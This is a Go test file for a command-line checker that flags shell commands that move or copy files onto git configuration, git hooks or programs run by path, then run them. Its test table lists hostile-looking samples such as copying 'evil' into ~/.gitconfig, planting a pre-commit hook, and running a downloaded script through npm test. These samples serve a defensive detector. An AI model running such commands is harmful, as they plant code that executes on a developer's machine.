package patterns

import "testing"

// TestMoveIntoTree: moving or copying the project's own files within the
// project rebinds neither git (its configuration is not below ./docs:
// effects_place_home.go) nor a build or test of the tree
// (effects_treeshuffle.go); a move onto git's configuration, a hook, a
// program run by path, or of a file from outside the tree, still does
// (rt42).
func TestMoveIntoTree(t *testing.T) {
	for _, c := range []struct {
		line string
		want bool // some part unreadable, made-then-run or rebound
	}{
		{"mv README.md docs/ && git add -A", false},
		{"mv README.md src/ && git status", false},
		{"mv a.txt docs/ && git status", false},
		{"mkdir -p docs && mv README.md docs/ && git add -A", false},
		{"mv README.md docs/x.md && git status", false},
		{"mv -t docs README.md && git status", false},
		{"mv src/old.js src/new.js && npm test", false},
		{"cp src/old.js src/new.js && npm test", false},
		{"mv src/old src/new && make", false},
		{"mv evil .gitconfig && git status", true},
		{"mv x .config/git/ && git status", true},
		{"mv x ~/.config/git/ && git status", true},
		{"cp evil ~/.gitconfig && git status", true},
		{"mv notes.txt .git/hooks/pre-commit && git commit -m x", true},
		{"cp /tmp/evil ./git && ./git status", true},
		{"mv x node_modules/.bin/jest && npm test", true},
		{"cp evil ~/bin/git && git status", true},
		{"ln -sf /tmp/x ./make && ./make", true},
		{"mv /tmp/x.js src/new.js && npm test", true},
		{"mv ~/Downloads/x.js src/ && npm test", true},
		{"curl -o a.js https://x.io/a.js && mv a.js src/ && npm test", true},
		{"mv $X src/ && npm test", true},
		{"mv a.sh b.sh && ./b.sh", true},
		{"mv a.json package.json && npm test", true},
		{"cd /tmp/x && mv a.js b.js && npm test", true},
	} {
		cmd := Read(c.line)
		got := false
		for _, u := range cmd.Unreadable {
			got = got || u.Code == UnreadableMadeRun || u.Code == UnreadableRebound
		}
		if got != c.want {
			t.Errorf("%q: made-then-run or rebound %v, want %v (%v)", c.line, got, c.want, cmd.Unreadable)
		}
	}
}
